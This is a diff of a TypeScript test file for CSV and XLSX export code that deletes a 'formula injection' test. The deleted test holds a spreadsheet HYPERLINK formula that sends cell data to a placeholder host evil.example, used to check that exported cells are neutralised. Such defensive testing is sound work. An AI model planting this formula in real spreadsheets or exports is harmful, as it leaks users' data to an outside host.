@@ -8,22 +8,6 @@ describe('toCsv', () => {
   });
 });
 
-describe('formula injection', () => {
-  it('CSV and XLSX cells that begin with = + - @ tab or CR are neutralised; numbers are not', () => {
-    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")';
-    const sheet = { name: 's', header: ['指标', '得分'], rows: [[evil, '-5'], ['@SUM(A1)', -2.5], ['+1+1', '\t=1']] as (string | number)[][] };
-    const csv = toCsv(sheet);
-    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击"")"`);
-    expect(csv).toContain(",-5\r\n'@SUM(A1),-2.5\r\n'+1+1,'\t=1");
-    for (const line of csv.split('\r\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r]/);
-    const xml = strFromU8(unzipSync(buildXlsx([sheet]))['xl/worksheets/sheet1.xml']!);
-    expect(xml).toContain('<t xml:space="preserve">\'=HYPERLINK(');
-    expect(xml).toContain('<t xml:space="preserve">\'@SUM(A1)</t>');
-    expect(xml).toContain('<c r="B2"><v>-5</v></c>');
-    expect(xml).not.toMatch(/<f>/);
-  });
-});
-
 describe('buildXlsx', () => {
   it('writes a workbook whose sheets hold the rows, decimals as numbers exactly as written', () => {
     const bytes = buildXlsx([
